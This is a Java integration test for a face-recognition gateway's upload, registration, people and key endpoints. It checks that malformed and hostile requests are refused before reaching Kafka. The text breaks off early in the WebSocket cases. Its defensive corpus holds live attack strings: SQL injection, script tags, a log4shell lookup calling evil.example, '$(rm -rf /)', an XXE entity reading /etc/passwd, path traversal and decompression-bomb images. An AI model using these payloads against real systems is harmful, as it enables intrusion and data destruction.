package io.facestream.gateway;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.net.http.WebSocket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CompletionStage;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.TimeUnit;
import java.util.function.Supplier;
import java.util.stream.Stream;

import org.apache.kafka.clients.consumer.ConsumerConfig;
import org.apache.kafka.clients.consumer.KafkaConsumer;
import org.apache.kafka.common.TopicPartition;
import org.apache.kafka.common.serialization.ByteArrayDeserializer;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.opencv.core.CvType;
import org.opencv.core.Core;
import org.opencv.core.Mat;
import org.opencv.core.MatOfByte;
import org.opencv.core.Rect;
import org.opencv.core.Scalar;
import org.opencv.imgcodecs.Imgcodecs;
import org.springframework.beans.factory.annotation.Value;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.kafka.test.context.EmbeddedKafka;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;

import io.facestream.face.CraftedImages;
import io.facestream.face.Images;
import io.facestream.face.TestData;
import io.facestream.face.TestPhotos;
import io.facestream.schemas.Topics;

/**
 * A generated corpus of malformed and hostile requests against the gateway on a real broker with
 * no pipeline behind it: every one is refused with the expected 4xx and JSON error code, none
 * reaches the frames topic, and the gateway still accepts a good request afterwards (a 504 there
 * means it passed validation and was sent).
 *
 * <p>Every HTTP request goes through {@link #http} and every WebSocket through {@link #connect}, so
 * credentials or other headers can be added in one place.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT, properties = {
        "facestream.gateway.kafka-bootstrap-servers=${spring.embedded.kafka.brokers}",
        "facestream.gateway.reply-timeout=1s",
        "facestream.gateway.max-upload-size=" + HostileInputTest.MAX_UPLOAD_MB + "MB",
        "facestream.gateway.max-frame-size=" + HostileInputTest.MAX_FRAME_MB + "MB",
        // Well over a hundred requests with one key: the rate limit is ApiKeyTest's subject, not this one's.
        "facestream.gateway.requests-per-minute=0",
        "facestream.db.schema=" + TestKeys.SCHEMA,
        "facestream.gateway.admin-key=" + TestKeys.ADMIN})
@EmbeddedKafka(partitions = 1)
class HostileInputTest {

    static final int MAX_UPLOAD_MB = 16;
    static final int MAX_FRAME_MB = 2;
    static final ObjectMapper JSON = new ObjectMapper();
    static final HttpClient CLIENT = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).connectTimeout(Duration.ofSeconds(5)).build();

    static final String RECOGNIZE = "/api/recognition/recognize";
    static final String DETECT = "/api/recognition/detect";
    static final String REGISTER = "/api/recognition/register";

    static {
        Images.load();
    }

    @LocalServerPort
    int port;

    @Value("${spring.embedded.kafka.brokers}")
    String brokers;

    // ---- the one HTTP helper and the one WebSocket helper -----------------------------------

    record Answer(int status, JsonNode body, String raw) {
        String error() {
            return body == null || body.get("error") == null ? null : body.get("error").asText();
        }
    }

    /** Every HTTP request of this test. {@code headers} are extra name, value pairs. */
    Answer http(String method, String route, String contentType, byte[] body, String... headers) {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + route)).timeout(Duration.ofSeconds(30))
                .method(method, body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofByteArray(body));
        if (contentType != null) {
            request.header("Content-Type", contentType);
        }
        request.header("X-API-Key", TestKeys.ADMIN);
        for (int i = 0; i + 1 < headers.length; i += 2) {
            request.header(headers[i], headers[i + 1]);
        }
        try {
            HttpResponse<byte[]> response = CLIENT.send(request.build(), HttpResponse.BodyHandlers.ofByteArray());
            String raw = new String(response.body(), StandardCharsets.UTF_8);
            JsonNode json;
            try {
                json = raw.isEmpty() ? null : JSON.readTree(raw);
            } catch (Exception notJson) {
                json = null;
            }
            return new Answer(response.statusCode(), json, raw);
        } catch (Exception e) {
            throw new IllegalStateException(method + " " + route + " failed: " + e, e);
        }
    }

    Answer post(String route, Multipart form, String... headers) {
        return http("POST", route, form.contentType(), form.bytes(), headers);
    }

    /** Every WebSocket connection of this test. */
    Socket connect(String path) throws Exception {
        Socket socket = new Socket();
        socket.ws = CLIENT.newWebSocketBuilder().buildAsync(URI.create("ws://127.0.0.1:" + port + path + (path.contains("?") ? "&" : "?") + "api_key=" + TestKeys.ADMIN), socket).get(10, TimeUnit.SECONDS);
        return socket;
    }

    /** Collects a connection's replies and how it was closed. */
    static final class Socket implements WebSocket.Listener {
        WebSocket ws;
        final List<JsonNode> replies = new CopyOnWriteArrayList<>();
        final CompletableFuture<String> closed = new CompletableFuture<>();
        private final StringBuilder partial = new StringBuilder();
        volatile int closeCode = -1;

        @Override
        public void onOpen(WebSocket webSocket) {
            webSocket.request(Long.MAX_VALUE);
        }

        @Override
        public CompletionStage<?> onText(WebSocket webSocket, CharSequence data, boolean last) {
            partial.append(data);
            if (last) {
                try {
                    replies.add(JSON.readTree(partial.toString()));
                } catch (Exception e) {
                    replies.add(JSON.createObjectNode().put("unparsable", partial.toString()));
                }
                partial.setLength(0);
            }
            return null;
        }

        @Override
        public CompletionStage<?> onClose(WebSocket webSocket, int statusCode, String reason) {
            closeCode = statusCode;
            closed.complete(statusCode + " " + reason);
            return null;
        }

        @Override
        public void onError(WebSocket webSocket, Throwable error) {
            closed.complete("error " + error);
        }

        void text(String text) throws Exception {
            ws.sendText(text, true).get(10, TimeUnit.SECONDS);
        }

        /** Sends one binary message; the server may close the connection while it is still going out. */
        void binary(byte[] bytes) {
            try {
                ws.sendBinary(ByteBuffer.wrap(bytes), true).get(20, TimeUnit.SECONDS);
            } catch (Exception closedWhileSending) {
                // the close code tells what happened
            }
        }

        List<JsonNode> await(int count, Duration within) throws InterruptedException {
            long end = System.nanoTime() + within.toNanos();
            while (replies.size() < count && System.nanoTime() < end && !closed.isDone()) {
                Thread.sleep(20);
            }
            return replies;
        }

        String awaitClose(Duration within) {
            try {
                return closed.get(within.toMillis(), TimeUnit.MILLISECONDS);
            } catch (Exception e) {
                return "still open";
            }
        }

        void close() {
            if (!ws.isOutputClosed()) {
                ws.sendClose(WebSocket.NORMAL_CLOSURE, "done");
            }
        }
    }

    /**
     * The frame count once it reaches what is expected, or after 10 s: a frame is sent asynchronously, and the gateway's
     * 504 can come before the broker has acknowledged it on a loaded machine.
     */
    long framesInKafka(long expected) throws InterruptedException {
        long end = System.nanoTime() + java.util.concurrent.TimeUnit.SECONDS.toNanos(10);
        long count = framesInKafka();
        while (count < expected && System.nanoTime() < end) {
            Thread.sleep(50);
            count = framesInKafka();
        }
        return count;
    }

    long framesInKafka() {
        try (KafkaConsumer<byte[], byte[]> consumer = new KafkaConsumer<>(Map.of(ConsumerConfig.BOOTSTRAP_SERVERS_CONFIG, brokers),
                new ByteArrayDeserializer(), new ByteArrayDeserializer())) {
            List<TopicPartition> partitions = consumer.partitionsFor(Topics.FRAMES.name()).stream()
                    .map(p -> new TopicPartition(p.topic(), p.partition())).toList();
            return consumer.endOffsets(partitions).values().stream().mapToLong(Long::longValue).sum();
        }
    }

    // ---- multipart bodies built by hand, so they can be wrong in every way ------------------

    record Part(String name, String filename, String contentType, byte[] data) {
    }

    static final class Multipart {
        final String boundary;
        final List<Part> parts = new ArrayList<>();
        String contentTypeOverride;
        byte[] bodyOverride;

        Multipart(String boundary) {
            this.boundary = boundary;
        }

        static Multipart form() {
            return new Multipart("facestream-test-boundary-7MA4YWxkTrZu0gW");
        }

        static Multipart file(byte[] data) {
            return form().part("file", "upload.jpg", "application/octet-stream", data);
        }

        static Multipart file(byte[] data, String contentType) {
            return form().part("file", "upload.jpg", contentType, data);
        }

        /** A photo and a name, as a registration. */
        static Multipart register(byte[] data, String name) {
            Multipart form = form();
            if (data != null) {
                form.part("file", "upload.jpg", "image/jpeg", data);
            }
            return name == null ? form : form.field("name", name);
        }

        Multipart part(String name, String filename, String contentType, byte[] data) {
            parts.add(new Part(name, filename, contentType, data));
            return this;
        }

        Multipart field(String name, String value) {
            return part(name, null, null, value.getBytes(StandardCharsets.UTF_8));
        }

        Multipart fieldBytes(String name, byte[] value) {
            return part(name, null, null, value);
        }

        Multipart contentType(String override) {
            contentTypeOverride = override;
            return this;
        }

        Multipart body(byte[] override) {
            bodyOverride = override;
            return this;
        }

        String contentType() {
            return contentTypeOverride != null ? contentTypeOverride : "multipart/form-data; boundary=" + boundary;
        }

        byte[] bytes() {
            if (bodyOverride != null) {
                return bodyOverride;
            }
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            for (Part part : parts) {
                write(out, "--" + boundary + "\r\n");
                write(out, "Content-Disposition: form-data; name=\"" + part.name() + "\""
                        + (part.filename() == null ? "" : "; filename=\"" + part.filename() + "\"") + "\r\n");
                if (part.contentType() != null) {
                    write(out, "Content-Type: " + part.contentType() + "\r\n");
                }
                write(out, "\r\n");
                out.writeBytes(part.data());
                write(out, "\r\n");
            }
            write(out, "--" + boundary + "--\r\n");
            return out.toByteArray();
        }

        private static void write(ByteArrayOutputStream out, String text) {
            out.writeBytes(text.getBytes(StandardCharsets.UTF_8));
        }
    }

    // ---- generated images -----------------------------------------------------------------

    /** A photo of the shared data set (skips the test without it); a plain valid photo is {@link TestPhotos}'. */
    static byte[] read(String path) {
        try {
            return Files.readAllBytes(TestData.dir().resolve(path));
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    static byte[] encode(String ext, Mat image) {
        MatOfByte out = new MatOfByte();
        assertThat(Imgcodecs.imencode(ext, image, out)).isTrue();
        return out.toArray();
    }

    static Mat pattern(int width, int height) {
        Mat image = new Mat(height, width, CvType.CV_8UC3, new Scalar(40, 120, 200));
        image.submat(new Rect(0, 0, width / 2, height / 2)).setTo(new Scalar(250, 10, 10));
        return image;
    }

    static byte[] random(long seed, int length, byte... prefix) {
        byte[] bytes = new byte[length];
        new Random(seed).nextBytes(bytes);
        System.arraycopy(prefix, 0, bytes, 0, prefix.length);
        if (prefix.length == 0 && (bytes[0] & 0xFF) == 0xFF || prefix.length == 0 && (bytes[0] & 0xFF) == 0x89) {
            bytes[0] = 0x42;
        }
        return bytes;
    }

    static byte[] concat(byte[]... pieces) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] piece : pieces) {
            out.writeBytes(piece);
        }
        return out.toByteArray();
    }

    static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    /** A copy of a PNG with some bytes inside its first IDAT chunk's data changed. */
    static byte[] corruptIdat(byte[] png) {
        byte[] copy = png.clone();
        for (int i = 8; i + 8 < copy.length; ) {
            int length = ByteBuffer.wrap(copy, i, 4).getInt();
            String type = new String(copy, i + 4, 4, StandardCharsets.ISO_8859_1);
            if (type.equals("IDAT")) {
                for (int k = 0; k < Math.min(length, 64); k += 7) {
                    copy[i + 8 + k] ^= 0x5A;
                }
                return copy;
            }
            i += 12 + length;
        }
        throw new IllegalStateException("no IDAT");
    }

    // ---- the HTTP corpus ------------------------------------------------------------------

    record HttpCase(String name, int status, String error, Supplier<Answer> request) {
    }

    List<HttpCase> httpCorpus() {
        byte[] jpeg = TestPhotos.bytes(TestPhotos.A1);
        byte[] png = encode(".png", pattern(320, 240));
        byte[] smallJpeg = encode(".jpg", pattern(320, 240));
        List<HttpCase> cases = new ArrayList<>();

        // --- files that are not a whole JPEG or PNG: 400 invalid_image
        Map<String, byte[]> notImages = new java.util.LinkedHashMap<>();
        for (int length : new int[] {2, 3, 4, 20, 100, 1000}) {
            notImages.put("JPEG cut to " + length + " bytes", Arrays.copyOf(jpeg, length));
        }
        notImages.put("JPEG cut in half", Arrays.copyOf(jpeg, jpeg.length / 2));
        notImages.put("JPEG without its last 2 bytes (EOI)", Arrays.copyOf(jpeg, jpeg.length - 2));
        for (int length : new int[] {8, 16, 23, 40, 200}) {
            notImages.put("PNG cut to " + length + " bytes", Arrays.copyOf(png, length));
        }
        notImages.put("PNG cut in half", Arrays.copyOf(png, png.length / 2));
        notImages.put("PNG without its IEND chunk", Arrays.copyOf(png, png.length - 12));
        notImages.put("PNG with damaged IDAT data", corruptIdat(png));
        notImages.put("JPEG with its first byte changed", concat(new byte[] {0x00}, Arrays.copyOfRange(jpeg, 1, jpeg.length)));
        notImages.put("PNG with a damaged signature", concat(utf8("\u0089PNX\r\n\u001a\n"), Arrays.copyOfRange(png, 8, png.length)));
        notImages.put("PNG whose first chunk is not IHDR", concat(Arrays.copyOf(png, 8), new byte[] {0, 0, 0, 0}, utf8("tEXt"), new byte[4], Arrays.copyOfRange(png, 8, png.length)));
        notImages.put("JPEG with image data (SOS) before any size header", concat(new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xDA, 0, 8},
                random(3, 200), new byte[] {(byte) 0xFF, (byte) 0xD9}));
        notImages.put("JPEG of SOI and EOI only", new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xD9});
        notImages.put("JPEG magic then random bytes", random(4, 5000, (byte) 0xFF, (byte) 0xD8, (byte) 0xFF));
        notImages.put("PNG signature then random bytes", random(5, 5000, (byte) 0x89, (byte) 'P', (byte) 'N', (byte) 'G', (byte) '\r', (byte) '\n', (byte) 0x1A, (byte) '\n'));
        notImages.put("PNG claiming 0×0", CraftedImages.pngClaiming(0, 0));
        notImages.put("PNG claiming 0×100", CraftedImages.pngClaiming(0, 100));
        notImages.put("JPEG claiming 100×0", CraftedImages.jpegClaiming(100, 0));
        notImages.put("PNG claiming 2^32-1 wide (negative as int)", CraftedImages.pngClaiming(0xFFFFFFFFL, 10));
        notImages.put("1 KB of random bytes", random(1, 1024));
        notImages.put("64 KB of random bytes", random(2, 64 * 1024));
        notImages.put("GIF", concat(utf8("GIF89a"), new byte[] {1, 0, 1, 0, (byte) 0x80, 0, 0}, random(6, 100)));
        notImages.put("BMP", concat(utf8("BM"), random(7, 200)));
        notImages.put("WebP", concat(utf8("RIFF"), new byte[] {100, 0, 0, 0}, utf8("WEBPVP8 "), random(8, 100)));
        notImages.put("PDF", utf8("%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF"));
        notImages.put("ZIP", concat(new byte[] {'P', 'K', 3, 4}, random(9, 300)));
        notImages.put("gzip", concat(new byte[] {0x1F, (byte) 0x8B, 8, 0}, random(10, 300)));
        notImages.put("ELF executable", concat(new byte[] {0x7F, 'E', 'L', 'F'}, random(11, 300)));
        notImages.put("HTML with a script", utf8("<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"));
        notImages.put("SVG with a script", utf8("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(2)</script></svg>"));
        notImages.put("SQL", utf8("'; DROP TABLE person; -- \n SELECT * FROM embedding WHERE '1'='1'"));
        notImages.put("JSON", utf8("{\"file\": \"/etc/passwd\", \"__proto__\": {\"admin\": true}}"));
        notImages.put("shell", utf8("$(rm -rf /) `reboot` ${jndi:ldap://evil.example/a}"));
        notImages.put("NUL bytes", new byte[4096]);
        notImages.put("empty file", new byte[0]);
        int n = 0;
        for (Map.Entry<String, byte[]> entry : notImages.entrySet()) {
            String route = switch (n++ % 3) {
                case 0 -> RECOGNIZE;
                case 1 -> DETECT;
                default -> REGISTER;
            };
            byte[] data = entry.getValue();
            cases.add(new HttpCase(entry.getKey() + " to " + route.substring(route.lastIndexOf('/') + 1), 400, "invalid_image",
                    () -> post(route, route.equals(REGISTER) ? Multipart.register(data, "Test Person") : Multipart.file(data))));
        }

        // --- decompression bombs: a tiny file claiming a huge image, refused from the header: 413
        cases.add(new HttpCase("PNG of 57 bytes claiming 100000×100000", 413, "image_too_large", () -> post(RECOGNIZE, Multipart.file(CraftedImages.pngClaiming(100_000, 100_000)))));
        cases.add(new HttpCase("JPEG of 23 bytes claiming 65535×65535", 413, "image_too_large", () -> post(DETECT, Multipart.file(CraftedImages.jpegClaiming(65_535, 65_535)))));
        byte[] bomb = CraftedImages.zeroPng(7000, 7000);
        cases.add(new HttpCase("valid " + bomb.length / 1024 + " KB PNG of 7000×7000 zeros (147 MB decoded)", 413, "image_too_large", () -> post(DETECT, Multipart.file(bomb, "image/png"))));
        cases.add(new HttpCase("PNG claiming 6400×6400 (41 MP)", 413, "image_too_large", () -> post(RECOGNIZE, Multipart.file(CraftedImages.pngClaiming(6400, 6400)))));
        cases.add(new HttpCase("PNG claiming 1×50000000", 413, "image_too_large", () -> post(RECOGNIZE, Multipart.file(CraftedImages.pngClaiming(1, 50_000_000)))));
        cases.add(new HttpCase("bomb header followed by a real PNG body", 413, "image_too_large",
                () -> post(REGISTER, Multipart.register(concat(Arrays.copyOf(CraftedImages.pngClaiming(30_000, 30_000), 33), Arrays.copyOfRange(png, 33, png.length)), "Test Person"))));

        // --- declared types that are not JPEG or PNG: 400 unsupported_file_type
        for (String type : List.of("text/html", "image/svg+xml", "application/json", "text/plain", "image/gif", "application/x-php", "garbage/<script>")) {
            cases.add(new HttpCase("good JPEG declared as " + type, 400, "unsupported_file_type", () -> post(RECOGNIZE, Multipart.file(smallJpeg, type))));
        }
        cases.add(new HttpCase("HTML declared as text/html", 400, "unsupported_file_type",
                () -> post(DETECT, Multipart.file(utf8("<html><script>alert(1)</script></html>"), "text/html"))));

        // --- size
        byte[] oversized = concat(jpeg, new byte[MAX_UPLOAD_MB * 1024 * 1024 + 16 * 1024 - jpeg.length]);
        cases.add(new HttpCase("upload " + (oversized.length / 1024) + " KB, over the " + MAX_UPLOAD_MB + " MB limit", 413, "too_large",
                () -> post(RECOGNIZE, Multipart.file(oversized))));
        cases.add(new HttpCase("30 parts", 413, "too_large", () -> {
            Multipart form = Multipart.file(smallJpeg);
            for (int i = 0; i < 29; i++) {
                form.field("extra" + i, "x");
            }
            return post(RECOGNIZE, form);
        }));

        // --- wrong or missing fields
        cases.add(new HttpCase("file sent as 'image'", 400, "missing_field", () -> post(RECOGNIZE, Multipart.form().part("image", "a.jpg", "image/jpeg", smallJpeg))));
        cases.add(new HttpCase("file sent as a plain field", 400, "missing_field", () -> post(DETECT, Multipart.form().field("file", "not a file"))));
        cases.add(new HttpCase("multipart without parts", 400, "missing_field", () -> post(RECOGNIZE, Multipart.form())));
        cases.add(new HttpCase("two files, the first garbage", 400, "invalid_image",
                () -> post(RECOGNIZE, Multipart.file(utf8("garbage")).part("file", "b.jpg", "image/jpeg", smallJpeg))));
        cases.add(new HttpCase("hostile filename with a bad file", 400, "invalid_image",
                () -> post(RECOGNIZE, Multipart.form().part("file", "../../../etc/passwd<script>", "image/jpeg", utf8("x")))));

        // --- not multipart at all: 415
        cases.add(new HttpCase("JSON body", 415, "unsupported_media_type",
                () -> http("POST", RECOGNIZE, "application/json", utf8("{\"file\":\"" + java.util.Base64.getEncoder().encodeToString(smallJpeg) + "\"}"))));
        cases.add(new HttpCase("url-encoded form", 415, "unsupported_media_type",
                () -> http("POST", REGISTER, "application/x-www-form-urlencoded", utf8("name=Bob&face_id=3f1c2d4e-0000-0000-0000-000000000000"))));
        cases.add(new HttpCase("raw JPEG body", 415, "unsupported_media_type", () -> http("POST", DETECT, "image/jpeg", smallJpeg)));
        cases.add(new HttpCase("no Content-Type", 415, "unsupported_media_type", () -> http("POST", RECOGNIZE, null, smallJpeg)));
        cases.add(new HttpCase("XML body", 415, "unsupported_media_type",
                () -> http("POST", RECOGNIZE, "application/xml", utf8("<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"))));

        // --- broken multipart: 400 invalid_request
        cases.add(new HttpCase("multipart without a boundary", 400, "invalid_request",
                () -> post(RECOGNIZE, Multipart.file(smallJpeg).contentType("multipart/form-data"))));
        cases.add(new HttpCase("multipart cut before its closing boundary", 400, "invalid_request", () -> {
            byte[] whole = Multipart.file(smallJpeg).bytes();
            return post(RECOGNIZE, Multipart.form().body(Arrays.copyOf(whole, whole.length / 2)));
        }));
        // No boundary in the body: the container finds no parts at all.
        cases.add(new HttpCase("multipart content type over random bytes", 400, "missing_field", () -> post(RECOGNIZE, Multipart.form().body(random(12, 4096)))));

        // --- wrong method and route: JSON too
        cases.add(new HttpCase("GET on recognize", 405, "method_not_allowed", () -> http("GET", RECOGNIZE, null, null)));
        cases.add(new HttpCase("PUT on register", 405, "method_not_allowed", () -> http("PUT", REGISTER, Multipart.file(smallJpeg).contentType(), Multipart.file(smallJpeg).bytes())));
        cases.add(new HttpCase("unknown route", 404, "not_found", () -> post("/api/recognition/identify", Multipart.file(smallJpeg))));
        cases.add(new HttpCase("bad file with Accept: text/html", 400, "invalid_image", () -> post(RECOGNIZE, Multipart.file(utf8("nope")), "Accept", "text/html")));

        // --- people, verify and keys: refused before anything is sent
        cases.add(new HttpCase("person id that is not a number", 400, "invalid_request", () -> http("GET", "/api/people/1%20or%201=1", null, null)));
        cases.add(new HttpCase("person id past a long", 400, "invalid_request", () -> http("DELETE", "/api/people/99999999999999999999999", null, null)));
        cases.add(new HttpCase("rename with broken JSON", 400, "invalid_json", () -> http("PATCH", "/api/people/1", "application/json", utf8("{\"name\": "))));
        cases.add(new HttpCase("rename with a script name", 400, "invalid_name",
                () -> http("PATCH", "/api/people/1", "application/json", utf8("{\"name\": \"<script>alert(1)</script>\"}"))));
        cases.add(new HttpCase("rename with no name", 400, "invalid_name", () -> http("PATCH", "/api/people/1", "application/json", utf8("{}"))));
        cases.add(new HttpCase("rename as a form", 415, "unsupported_media_type",
                () -> http("PATCH", "/api/people/1", "application/x-www-form-urlencoded", utf8("name=Bob"))));
        cases.add(new HttpCase("people page of a million", 400, "invalid_request", () -> http("GET", "/api/people?size=1000000", null, null)));
        cases.add(new HttpCase("people filter with control characters", 400, "invalid_name", () -> http("GET", "/api/people?name=%00%07", null, null)));
        cases.add(new HttpCase("face added with a bad face_id", 400, "invalid_face_id",
                () -> post("/api/people/1/faces", Multipart.form().field("face_id", "../../etc/passwd"))));
        cases.add(new HttpCase("verify with neither other_file nor person_id", 400, "invalid_request", () -> post("/api/recognition/verify", Multipart.file(jpeg))));
        cases.add(new HttpCase("verify with a text person_id", 400, "invalid_request",
                () -> post("/api/recognition/verify", Multipart.file(jpeg).field("person_id", "1; drop table person"))));
        cases.add(new HttpCase("verify against a truncated other photo", 400, "invalid_image",
                () -> post("/api/recognition/verify", Multipart.file(jpeg).part("other_file", "other.jpg", "image/jpeg", Arrays.copyOf(jpeg, jpeg.length / 3)))));
        cases.add(new HttpCase("key with an unknown scope", 400, "invalid_scopes",
                () -> http("POST", "/api/keys", "application/json", utf8("{\"name\": \"x\", \"scopes\": [\"root\"]}"))));
        cases.add(new HttpCase("key with a script name", 400, "invalid_name",
                () -> http("POST", "/api/keys", "application/json", utf8("{\"name\": \"<img src=x onerror=alert(1)>\", \"scopes\": [\"admin\"]}"))));

        // --- names: 400 invalid_name (or missing_field)
        cases.add(new HttpCase("register without a name", 400, "missing_field", () -> post(REGISTER, Multipart.register(jpeg, null))));
        Map<String, String> names = new java.util.LinkedHashMap<>();
        names.put("empty name", "");
        names.put("blank name", "   ");
        names.put("no-break spaces only", "\u00A0\u2007\u00A0");
        names.put("101 characters", "x".repeat(101));
        names.put("100 KB name", "A".repeat(100_000));
        names.put("SQL: Robert'); DROP TABLE", "Robert'); DROP TABLE person;--");
        names.put("SQL: ' OR '1'='1", "' OR '1'='1");
        names.put("SQL: UNION SELECT *", "x UNION SELECT * FROM users");
        names.put("script tag", "<script>alert(1)</script>");
        names.put("img onerror", "<img src=x onerror=alert(1)>");
        names.put("template injection", "{{7*7}} ${7*7}");
        names.put("log4shell", "${jndi:ldap://evil.example/a}");
        names.put("path traversal", "../../etc/passwd");
        names.put("NUL", "Bob\u0000Smith");
        names.put("CRLF header injection", "Bob\r\nX-Injected: 1");
        names.put("tab", "Bob\tSmith");
        names.put("ANSI escape", "\u001B[31mRed\u001B[0m");
        names.put("C1 control", "Bob\u0085Smith");
        names.put("right-to-left override", "Bob\u202Egnp.exe");
        names.put("zero-width space", "Bob\u200BSmith");
        names.put("byte-order mark", "\uFEFFBob");
        names.put("emoji", "Bob \uD83D\uDE00");
        names.put("line separator", "Bob\u2028Smith");
        for (Map.Entry<String, String> entry : names.entrySet()) {
            cases.add(new HttpCase("name: " + entry.getKey(), 400, "invalid_name", () -> post(REGISTER, Multipart.register(jpeg, entry.getValue()))));
        }
        cases.add(new HttpCase("name: invalid UTF-8 bytes", 400, "invalid_name",
                () -> post(REGISTER, Multipart.form().part("file", "a.jpg", "image/jpeg", jpeg).fieldBytes("name", new byte[] {'B', (byte) 0xC3, 0x28, (byte) 0xFF}))));

        // --- face_id: 400 invalid_face_id, or invalid_request for both or neither
        Map<String, String> faceIds = new java.util.LinkedHashMap<>();
        faceIds.put("SQL", "'; drop table person; --");
        faceIds.put("36 dashes", "-".repeat(36));
        faceIds.put("36 hex digits without dashes", "0123456789abcdef0123456789abcdef0123");
        faceIds.put("UUID with a trailing script", "3f1c2d4e-0000-0000-0000-000000000000<script>");
        faceIds.put("path traversal", "../../../../../../etc/passwd/0000000");
        faceIds.put("redis glob", "*");
        faceIds.put("10 KB", "a".repeat(10_000));
        for (Map.Entry<String, String> entry : faceIds.entrySet()) {
            cases.add(new HttpCase("face_id: " + entry.getKey(), 400, "invalid_face_id",
                    () -> post(REGISTER, Multipart.form().field("name", "Test Person").field("face_id", entry.getValue()))));
        }
        cases.add(new HttpCase("both file and face_id", 400, "invalid_request",
                () -> post(REGISTER, Multipart.register(jpeg, "Test Person").field("face_id", "3f1c2d4e-0000-0000-0000-000000000000"))));
        cases.add(new HttpCase("neither file nor face_id", 400, "invalid_request", () -> post(REGISTER, Multipart.register(null, "Test Person"))));
        return cases;
    }

    @TestFactory
    Stream<DynamicTest> hostileHttpRequestsAreRefusedBeforeKafka() {
        List<HttpCase> corpus = httpCorpus();
        long[] before = new long[1];
        List<DynamicTest> tests = new ArrayList<>();
        tests.add(DynamicTest.dynamicTest("corpus has at least 50 cases", () -> {
            System.out.println("hostile HTTP cases: " + corpus.size());
            assertThat(corpus.size()).isGreaterThanOrEqualTo(50);
            before[0] = framesInKafka();
        }));
        for (HttpCase c : corpus) {
            tests.add(DynamicTest.dynamicTest(c.name() + " → " + c.status() + " " + c.error(), () -> {
                Answer answer = c.request().get();
                assertThat(answer.status()).as(c.name() + ": " + answer.raw()).isEqualTo(c.status());
                assertThat(answer.error()).as(c.name() + ": " + answer.raw()).isEqualTo(c.error());
                assertThat(answer.body().get("message").asText()).as(c.name() + ": " + answer.raw()).isNotBlank();
            }));
        }
        tests.add(DynamicTest.dynamicTest("nothing reached the frames topic", () -> assertThat(framesInKafka()).isEqualTo(before[0])));
        tests.add(DynamicTest.dynamicTest("a good request is still accepted and sent (504 without a pipeline)", () -> {
            Answer answer = post(RECOGNIZE, Multipart.file(TestPhotos.bytes(TestPhotos.A1), "image/jpeg"));
            assertThat(answer.status()).as(answer.raw()).isEqualTo(504);
            assertThat(answer.error()).isEqualTo("timeout");
            assertThat(framesInKafka(before[0] + 1)).isEqualTo(before[0] + 1);
        }));
        return tests.stream();
    }

    /** Unusual but valid photos pass validation and are sent: 504 here, one frame each. */
    @TestFactory
    Stream<DynamicTest> awkwardButValidImagesAreAccepted() {
        Mat noise = new Mat(1920, 1920, CvType.CV_8UC3);
        Core.randu(noise, 0, 256);
        Mat deep = new Mat(480, 640, CvType.CV_16UC3, new Scalar(10_000, 30_000, 60_000));
        Mat alpha = new Mat(480, 640, CvType.CV_8UC4, new Scalar(0, 0, 255, 0));
        Map<String, Supplier<Answer>> cases = new java.util.LinkedHashMap<>();
        cases.put("1920×1920 PNG of random noise (re-encoded within the 900 KB frame budget)", () -> post(RECOGNIZE, Multipart.file(encode(".png", noise), "image/png")));
        cases.put("16-bit PNG", () -> post(DETECT, Multipart.file(encode(".png", deep), "image/png")));
        cases.put("transparent PNG", () -> post(RECOGNIZE, Multipart.file(encode(".png", alpha), "image/png")));
        cases.put("CMYK JPEG", () -> post(RECOGNIZE, Multipart.file(read("hard/cmyk_derived_obama.jpg"), "image/jpeg")));
        cases.put("EXIF-rotated JPEG", () -> post(DETECT, Multipart.file(read("hard/exif_orientation6_derived_obama.jpg"))));
        cases.put("PNG declared as image/jpeg", () -> post(RECOGNIZE, Multipart.file(encode(".png", pattern(64, 64)), "image/jpeg")));
        cases.put("name with letters of several scripts and name punctuation", () -> post(REGISTER, Multipart.register(TestPhotos.bytes(TestPhotos.A1), "José-María O'Neil, Jr. (李小龙 Ødegård)")));
        return cases.entrySet().stream().map(entry -> DynamicTest.dynamicTest(entry.getKey(), () -> {
            long before = framesInKafka();
            Answer answer = entry.getValue().get();
            assertThat(answer.status()).as(answer.raw()).isEqualTo(504);
            assertThat(framesInKafka(before + 1)).isEqualTo(before + 1);
        }));
    }

    // ---- the WebSocket corpus -------------------------------------------------------------

    record SocketCase(String name, String expected, SocketAction action) {
    }

    interface SocketAction {
        void send(Socket socket) throws Exception;
    }

    List<SocketCase> socketCorpus() {
        byte[] jpeg = TestPhotos.bytes(TestPhotos.A1);
        List<SocketCase> cases = new ArrayList<>();
        cases.add(new SocketCase("text frame", "binary_frames_only", s -> s.text("hello")));
        cases.add(new SocketCase("text frame with JSON", "binary_frames_only", s -> s.text("{\"image\": \"data:image/jpeg;base64,/9j/4AAQ\"}")));
